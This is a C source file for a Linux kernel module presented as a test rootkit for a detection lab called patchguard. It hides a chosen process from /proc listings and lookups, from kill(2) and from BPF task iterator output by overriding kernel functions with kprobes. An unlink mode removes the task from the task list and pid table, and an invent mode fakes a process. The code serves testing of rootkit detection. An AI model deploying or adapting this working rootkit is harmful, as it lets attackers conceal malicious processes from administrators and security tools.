// SPDX-License-Identifier: GPL-2.0
/*
 * pg_hide_task: a test rootkit of patchguard's kernel lab (tests/lab/test_lab_hidden_task.py).
 * One process hidden from every view a tool has of it through the kernel's text interfaces,
 * as the thorough public rootkits do, and left on the kernel's task list:
 *
 *   - listings: filldir64() skips the entry named after the pid, so getdents64 of /proc and
 *     of /proc/<pid>/task leave it out;
 *   - lookups: proc_pid_lookup() answers ENOENT for it and pid_revalidate() drops a cached
 *     dentry of it, so stat of /proc/<pid> fails;
 *   - kill(pid, 0): __x64_sys_kill answers ESRCH;
 *   - the BPF task iterator's output: bpf_seq_write() drops a record that starts with the pid
 *     (the seq file read() returns), while the iterator program still runs for the task.
 *
 * Each is a kprobe whose pre_handler makes the function return at once (pg_override.h).
 * With only_iterator=1 only the last one is registered: the iterator's output alone lies.
 *
 * With unlink=1 no kprobe is registered: the task is hidden the DKOM way, unlinked from the
 * task list (init_task.tasks) and its pid taken out of its namespace's pid table (the idr every
 * lookup by pid goes through), under the locks the kernel itself takes (found with the
 * kprobe-on-kallsyms_lookup_name trick, as rootkits do). It still sits on its parent's children
 * list, its cgroup's css_set task list and its struct pid; a /proc/<pid> dentry cached before
 * keeps answering stat. rmmod links it back, if it is still alive.
 *
 * With invent=1 only the kill(2) probe is registered, and it answers 0 for `pid`, which no task
 * has: a view that invents a process.
 *
 *   insmod pg_hide_task.ko pid=1234 [only_iterator=1 | unlink=1 | invent=1]
 */
#include <linux/dcache.h>
#include <linux/err.h>
#include <linux/errno.h>
#include <linux/kernel.h>
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/moduleparam.h>
#include <linux/pid.h>
#include <linux/pid_namespace.h>
#include <linux/rculist.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>
#include <linux/string.h>

#include "pg_override.h"

static int pid;
module_param(pid, int, 0444);
MODULE_PARM_DESC(pid, "the pid hidden from every text view");
static bool only_iterator;
module_param(only_iterator, bool, 0444);
MODULE_PARM_DESC(only_iterator, "filter the task iterator's output only");
static bool unlink_task;
module_param_named(unlink, unlink_task, bool, 0444);
MODULE_PARM_DESC(unlink, "unlink the task from the task list and the pid table instead");
static bool invent;
module_param(invent, bool, 0444);
MODULE_PARM_DESC(invent, "make kill(2) answer for a pid no task has instead");
static unsigned long listed, looked_up, killed, iterated;
module_param(listed, ulong, 0444);
module_param(looked_up, ulong, 0444);
module_param(killed, ulong, 0444);
module_param(iterated, ulong, 0444);

static char name[12];
static size_t name_len;

static void pg_count(unsigned long *counter)
{
	WRITE_ONCE(*counter, READ_ONCE(*counter) + 1);
}

static bool pg_is_name(const char *s, size_t len)
{
	return len == name_len && !memcmp(s, name, len);
}

/* bool filldir64(struct dir_context *, const char *name, int namlen, ...): true goes on */
static int pg_filldir(struct kprobe *p, struct pt_regs *regs)
{
	if (!pg_is_name((const char *)regs->si, (int)regs->dx))
		return 0;
	pg_count(&listed);
	return pg_override(regs, 1);
}

static bool pg_dentry_is_hidden(struct pt_regs *regs)
{
	const struct dentry *dentry = (const struct dentry *)regs->di;

	return pg_is_name((const char *)dentry->d_name.name, dentry->d_name.len);
}

/* struct dentry *proc_pid_lookup(struct dentry *, unsigned int) */
static int pg_lookup(struct kprobe *p, struct pt_regs *regs)
{
	if (!pg_dentry_is_hidden(regs))
		return 0;
	pg_count(&looked_up);
	return pg_override(regs, (unsigned long)ERR_PTR(-ENOENT));
}

/* int pid_revalidate(struct dentry *, unsigned int): 0 drops the cached dentry */
static int pg_revalidate(struct kprobe *p, struct pt_regs *regs)
{
	if (!pg_dentry_is_hidden(regs))
		return 0;
	return pg_override(regs, 0);
}

/* long __x64_sys_kill(const struct pt_regs *): the caller's registers hold the arguments */
static int pg_kill(struct kprobe *p, struct pt_regs *regs)
{
	const struct pt_regs *user = (const struct pt_regs *)regs->di;

	if ((int)user->di != pid)
		return 0;
	pg_count(&killed);
	return pg_override(regs, invent ? 0 : (unsigned long)-ESRCH);
}

/* u64 bpf_seq_write(u64 seq, u64 data, u64 len): data is the program's stack */
static int pg_seq_write(struct kprobe *p, struct pt_regs *regs)
{
	if (regs->dx < sizeof(u32) || *(const u32 *)regs->si != (u32)pid)
		return 0;
	pg_count(&iterated);
	return pg_override(regs, 0);
}

static struct kprobe pg_probes[] = {
	{ .symbol_name = "filldir64", .pre_handler = pg_filldir },
	{ .symbol_name = "proc_pid_lookup", .pre_handler = pg_lookup },
	{ .symbol_name = "pid_revalidate", .pre_handler = pg_revalidate },
	{ .symbol_name = "__x64_sys_kill", .pre_handler = pg_kill },
	{ .symbol_name = "bpf_seq_write", .pre_handler = pg_seq_write },
};
static struct kprobe *pg_list[ARRAY_SIZE(pg_probes)];

enum { PG_KILL = 3 }; /* pg_probes[PG_KILL] is the kill(2) probe */

static int pg_first(void)
{
	if (invent)
		return PG_KILL;
	return only_iterator ? ARRAY_SIZE(pg_probes) - 1 : 0;
}

static int pg_many(void)
{
	return invent ? 1 : ARRAY_SIZE(pg_probes) - pg_first();
}

/* --- unlink=1: DKOM --------------------------------------------------------------------- */

static rwlock_t *pg_tasklist_lock;
static spinlock_t *pg_pidmap_lock;
static struct task_struct *unlinked;
static struct pid *unlinked_pid;
static struct pid_namespace *unlinked_ns;

/* kallsyms_lookup_name is not exported since 5.7; a kprobe on it tells where it is. */
static unsigned long pg_lookup_name(const char *symbol)
{
	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
	unsigned long (*lookup)(const char *);

	if (register_kprobe(&kp))
		return 0;
	lookup = (unsigned long (*)(const char *))kp.addr;
	unregister_kprobe(&kp);
	return lookup(symbol);
}

static int pg_unlink(void)
{
	pg_tasklist_lock = (rwlock_t *)pg_lookup_name("tasklist_lock");
	pg_pidmap_lock = (spinlock_t *)pg_lookup_name("pidmap_lock");
	if (!pg_tasklist_lock || !pg_pidmap_lock)
		return -ENOENT;
	unlinked_pid = find_get_pid(pid);
	unlinked = get_pid_task(unlinked_pid, PIDTYPE_PID);
	if (!unlinked || !thread_group_leader(unlinked)) {
		if (unlinked)
			put_task_struct(unlinked);
		put_pid(unlinked_pid);
		unlinked = NULL;
		return -ESRCH;
	}
	unlinked_ns = get_pid_ns(task_active_pid_ns(unlinked));
	write_lock_irq(pg_tasklist_lock);
	list_del_rcu(&unlinked->tasks);
	write_unlock_irq(pg_tasklist_lock);
	spin_lock_irq(pg_pidmap_lock);
	idr_remove(&unlinked_ns->idr, pid);
	spin_unlock_irq(pg_pidmap_lock);
	/* Once no walker can be on it, the node links to itself, so that the task's own exit
	 * (list_del_rcu in __unhash_process) stays harmless if it dies unlinked. */
	synchronize_rcu();
	INIT_LIST_HEAD(&unlinked->tasks);
	pr_info("pg_hide_task: pid %d unlinked from the task list and the pid table\n", pid);
	return 0;
}

static void pg_relink(void)
{
	bool alive;

	idr_preload(GFP_KERNEL);
	/* release_task runs under tasklist_lock: the task cannot exit while it is held */
	write_lock_irq(pg_tasklist_lock);
	alive = pid_alive(unlinked);
	if (alive)
		list_add_tail_rcu(&unlinked->tasks, &init_task.tasks);
	write_unlock_irq(pg_tasklist_lock);
	if (alive) {
		spin_lock_irq(pg_pidmap_lock);
		idr_alloc(&unlinked_ns->idr, unlinked_pid, pid, pid + 1, GFP_ATOMIC);
		spin_unlock_irq(pg_pidmap_lock);
	}
	idr_preload_end();
	put_pid_ns(unlinked_ns);
	put_task_struct(unlinked);
	put_pid(unlinked_pid);
}

static int __init pg_hide_task_init(void)
{
	int i, err;

	if (pid <= 0)
		return -EINVAL;
	if (unlink_task)
		return pg_unlink();
	name_len = snprintf(name, sizeof(name), "%d", pid);
	for (i = 0; i < ARRAY_SIZE(pg_probes); i++)
		pg_list[i] = &pg_probes[i];
	err = register_kprobes(pg_list + pg_first(), pg_many());
	if (err)
		pr_err("pg_hide_task: register_kprobes: %d\n", err);
	else
		pr_info("pg_hide_task: pid %d hidden from every text view\n", pid);
	return err;
}

static void __exit pg_hide_task_exit(void)
{
	if (unlink_task) {
		pg_relink();
		return;
	}
	unregister_kprobes(pg_list + pg_first(), pg_many());
}

module_init(pg_hide_task_init);
module_exit(pg_hide_task_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("patchguard lab test rootkit: a process hidden from every text view");
